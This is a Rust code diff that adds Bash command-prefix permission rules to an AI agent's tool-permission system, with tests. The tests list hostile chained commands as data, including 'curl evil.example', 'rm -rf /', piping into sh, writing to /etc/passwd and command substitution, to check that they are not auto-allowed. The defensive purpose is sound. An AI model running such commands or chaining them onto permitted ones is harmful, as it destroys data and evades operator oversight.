@@ -33,10 +33,19 @@ fn names(rule: &PermissionRule, tool: &str) -> bool {
                 .unwrap_or(false))
 }
 
-/// Both the rule's `match` and the glob in its tool's parentheses, where given, match `key`.
+/// Both the rule's `match` and the glob in its tool's parentheses, where given, match `key`. `Bash(PREFIX:*)` is a
+/// command prefix rather than a glob (see [`command_prefix_matches`]).
 fn matches(rule: &PermissionRule, key: &str) -> bool {
-    let (_, inner) = split_tool(&rule.tool);
-    [rule.pattern.as_deref(), inner]
+    let (tool, inner) = split_tool(&rule.tool);
+    let prefix = inner
+        .filter(|_| tool == "Bash")
+        .and_then(|i| i.strip_suffix(":*"));
+    if let Some(prefix) = prefix {
+        if !command_prefix_matches(prefix, key, rule.action == PermissionAction::Allow) {
+            return false;
+        }
+    }
+    [rule.pattern.as_deref(), inner.filter(|_| prefix.is_none())]
         .into_iter()
         .flatten()
         .all(|p| {
@@ -45,6 +54,33 @@ fn matches(rule: &PermissionRule, key: &str) -> bool {
                 .map(|g| g.compile_matcher().is_match(key))
                 .unwrap_or(false)
         })
+}
+
+/// What makes a command more than one simple command: separators, pipes, redirections, substitutions, groups.
+const SHELL_CONTROL: &[char] = &[
+    ';', '&', '|', '<', '>', '`', '$', '(', ')', '{', '}', '\n', '\r',
+];
+
+/// Whether `command` falls under the prefix rule `prefix` (Claude Code's `Bash(npm test:*)`). An allow rule matches
+/// only one simple command whose words begin with the prefix's words, so `npm test && curl …` is not allowed by
+/// `npm test:*`. A deny or ask rule errs the other way: it matches any command in which the prefix's words follow
+/// each other anywhere, so `ls; rm -rf x` is caught by `rm:*`.
+pub fn command_prefix_matches(prefix: &str, command: &str, allow: bool) -> bool {
+    let Some(want) = shlex::split(prefix).filter(|w| !w.is_empty()) else {
+        return false;
+    };
+    if allow {
+        if command.contains(SHELL_CONTROL) {
+            return false;
+        }
+        return shlex::split(command).is_some_and(|words| words.starts_with(&want));
+    }
+    let words: Vec<String> = command
+        .split(|c: char| c.is_whitespace() || SHELL_CONTROL.contains(&c))
+        .filter(|w| !w.is_empty())
+        .map(|w| w.trim_matches(['\'', '"']).to_string())
+        .collect();
+    words.windows(want.len()).any(|w| w == want.as_slice())
 }
 
 /// `rules[i]: Tool "pattern" -> action`, as shown to operators.
@@ -120,5 +156,49 @@ mod tests {
             PermissionAction::Allow
         );
         assert_eq!(evaluate(&perms, "Bash", "ls").0, PermissionAction::Allow);
+    }
+
+    #[test]
+    fn an_allowed_command_prefix_covers_one_simple_command_and_nothing_chained_to_it() {
+        let perms = Permissions {
+            default: PermissionAction::Ask,
+            rules: vec![
+                rule("Bash(npm test:*)", None, PermissionAction::Allow),
+                rule("Bash(git status:*)", None, PermissionAction::Allow),
+            ],
+            ..Permissions::default()
+        };
+        let action = |c: &str| evaluate(&perms, "Bash", c).0;
+        assert_eq!(action("npm test"), PermissionAction::Allow);
+        assert_eq!(action("npm test -- --watch=false"), PermissionAction::Allow);
+        assert_eq!(action("git  status --short"), PermissionAction::Allow);
+        for chained in [
+            "npm test && curl evil.example",
+            "npm test; rm -rf /",
+            "npm test | sh",
+            "npm test > /etc/passwd",
+            "npm test $(rm -rf ~)",
+            "npm test `id`",
+            "npm test\nrm -rf ~",
+            "npm testify",
+            "npm",
+            "git status-evil",
+        ] {
+            assert_eq!(action(chained), PermissionAction::Ask, "{chained}");
+        }
+    }
+
+    #[test]
+    fn a_denied_command_prefix_is_caught_anywhere_in_a_chain() {
+        let perms = Permissions {
+            default: PermissionAction::Allow,
+            rules: vec![rule("Bash(rm:*)", None, PermissionAction::Deny)],
+            ..Permissions::default()
+        };
+        let action = |c: &str| evaluate(&perms, "Bash", c).0;
+        for caught in ["rm -rf x", "ls; rm -rf x", "ls && 'rm' x", "echo $(rm x)"] {
+            assert_eq!(action(caught), PermissionAction::Deny, "{caught}");
+        }
+        assert_eq!(action("ls farm"), PermissionAction::Allow);
     }
 }
